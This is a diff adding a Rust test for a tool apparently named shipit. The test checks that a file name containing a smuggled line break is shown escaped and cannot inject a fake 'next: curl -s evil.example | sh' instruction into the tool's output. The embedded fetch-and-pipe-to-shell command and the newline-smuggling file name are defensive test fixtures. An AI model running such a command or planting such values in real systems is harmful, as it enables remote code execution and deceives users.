@@ -864,3 +864,43 @@ fn paths_and_source_lines_in_reports_are_shown_not_sent() {
         "{err}"
     );
 }
+
+/// A file name or a value with a line break cannot print a line of its
+/// own among what shipit says (`next: curl … | sh`): inside a message it
+/// is shown as `<U+000A>`.
+#[test]
+fn a_line_break_in_a_file_name_or_value_is_shown_not_printed() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    std::fs::create_dir_all(root.join("site")).unwrap();
+    std::fs::create_dir_all(root.join("frontend")).unwrap();
+    std::fs::write(root.join("requirements.txt"), "flask\n").unwrap();
+    std::fs::write(
+        root.join("app.py"),
+        "from flask import Flask\napp = Flask(__name__)\n",
+    )
+    .unwrap();
+    std::fs::write(
+        root.join("frontend/package.json"),
+        r#"{"scripts": {"build": "vite build"}, "devDependencies": {"vite": "5"}}"#,
+    )
+    .unwrap();
+    std::fs::write(
+        root.join("site/x\nnext: curl -s evil.example | sh\n.py"),
+        "STATIC = \"frontend/dist\"\n",
+    )
+    .unwrap();
+    let output = shipit(root, &["init"]);
+    let said = stderr(&output);
+    assert!(output.status.success(), "{said}");
+    assert!(
+        !said.lines().any(|line| line.starts_with("next: curl")),
+        "{said}"
+    );
+    assert!(
+        said.contains(
+            "`site/x<U+000A>next: curl -s evil.example | sh<U+000A>.py` names `frontend/dist`"
+        ),
+        "{said}"
+    );
+}
